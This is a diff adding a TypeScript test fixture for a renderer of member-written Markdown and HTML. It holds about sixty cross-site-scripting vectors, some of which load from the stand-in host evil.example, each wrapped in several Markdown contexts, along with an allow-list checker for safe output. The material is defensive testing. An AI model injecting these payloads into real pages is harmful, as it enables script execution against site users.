@@ -1,0 +1,102 @@
+// Texts that try to become active in a page: every vector in every context. They are data for tests of whatever shows
+// what members or administrators wrote. `window.hacked` is what each of them would set if it ran.
+
+const RUN = 'window.hacked=1'
+
+const VECTORS = [
+  `<script>${RUN}</script>`,
+  `<script src=//evil.example/x.js></script>`,
+  `<SCRIPT/SRC="data:text/javascript,${RUN}">`,
+  `<img src=x onerror=${RUN}>`,
+  `<img src="x" onerror="${RUN}" `,
+  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
+  `<svg onload=${RUN}>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
+  `<math href="javascript:${RUN}">x</math>`,
+  `<body onload=${RUN}>`,
+  `<iframe src="javascript:${RUN}"></iframe>`,
+  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
+  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
+  `<embed src="javascript:${RUN}">`,
+  `<form action="javascript:${RUN}"><button>x</button></form>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<details open ontoggle=${RUN}>x</details>`,
+  `<video><source onerror=${RUN}></video>`,
+  `<audio src=x onerror=${RUN}>`,
+  `<marquee onstart=${RUN}>x</marquee>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
+  `<base href="//evil.example/">`,
+  `<link rel=stylesheet href="//evil.example/x.css">`,
+  `<style>@import '//evil.example/x.css';*{background:url(//evil.example/x)}</style>`,
+  `<div style="position:fixed;inset:0;background:url(javascript:${RUN})">x</div>`,
+  `<a href="javascript:${RUN}">x</a>`,
+  `<a href="&#106;avascript:${RUN}">x</a>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<template><script>${RUN}</script></template>`,
+  `<textarea></textarea><script>${RUN}</script>`,
+  `<title></title><img src=x onerror=${RUN}>`,
+  `<!--><img src=x onerror=${RUN}>-->`,
+  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
+  `<?xml version="1.0"?><x onclick=${RUN}>`,
+  `<x/onclick=${RUN} style=display:block>x`,
+  `<<script>${RUN}//<</script>`,
+  `</p></div></article><script>${RUN}</script>`,
+  `[x](javascript:${RUN})`,
+  `[x](JaVaScRiPt:${RUN})`,
+  `[x](java\tscript:${RUN})`,
+  `[x](&#x6A;avascript:${RUN})`,
+  `[x](\u0001javascript:${RUN})`,
+  `[x](vbscript:${RUN})`,
+  `[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)`,
+  `[x](https://ok.example/"onmouseover="${RUN})`,
+  `[x](https://ok.example 'x" onmouseover="${RUN}')`,
+  `![x](javascript:${RUN})`,
+  `![x](https://evil.example/pixel.gif "t\\" onload=\\"${RUN}")`,
+  `<javascript:${RUN}>`,
+  `[x]: javascript:${RUN}\n\n[x]`,
+  `\`<script>${RUN}</script>\``,
+  `{{constructor.constructor('${RUN}')()}}`,
+  `\${${RUN}}`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `\u202e<script>${RUN}</script>`,
+  `＜script＞${RUN}＜/script＞`,
+]
+
+const CONTEXTS: ((vector: string) => string)[] = [
+  (vector) => vector,
+  (vector) => `# ${vector}`,
+  (vector) => `> ${vector}`,
+  (vector) => `- ${vector}\n- more`,
+  (vector) => `**${vector}**`,
+  (vector) => `[${vector}](https://ok.example)`,
+  (vector) => `| head |\n| --- |\n| ${vector} |`,
+  (vector) => `\`\`\`html\n${vector}\n\`\`\``,
+  (vector) => `Before\n\n${vector}\n\nafter`,
+]
+
+/** More than 450 hostile texts, Markdown and HTML. */
+export const HOSTILE = VECTORS.flatMap((vector) => CONTEXTS.map((within) => within(vector)))
+
+const TAGS = 'p|br|hr|h3|h4|h5|h6|blockquote|pre|code|ul|ol|li|strong|em|s|a|table|thead|tbody|tr|th|td|mark'
+const ATTRIBUTES =
+  /^( (?:href="(?:https?:\/\/|mailto:)[^"<>]*"|title="[^"<>]*"|rel="noopener noreferrer nofollow ugc"|start="\d+"))*$/
+const TAG = new RegExp(`^(/?)(?:${TAGS})((?: [a-z]+="[^"<>]*")*)( /)?$`)
+
+/**
+ * What in a piece of HTML is not on the list of what members' texts may become. It does not parse: whatever begins with
+ * `<` must be one of the few forms that the renderer writes, letter by letter.
+ * @returns the offending pieces; empty for safe HTML
+ */
+export const activeParts = (html: string): string[] =>
+  html
+    .split('<')
+    .slice(1)
+    .filter((piece) => {
+      const end = piece.indexOf('>')
+      const found = end < 0 ? null : TAG.exec(piece.slice(0, end))
+      return !found || !ATTRIBUTES.test(found[2] ?? '')
+    })
+    .map((piece) => `<${piece.slice(0, 80)}`)
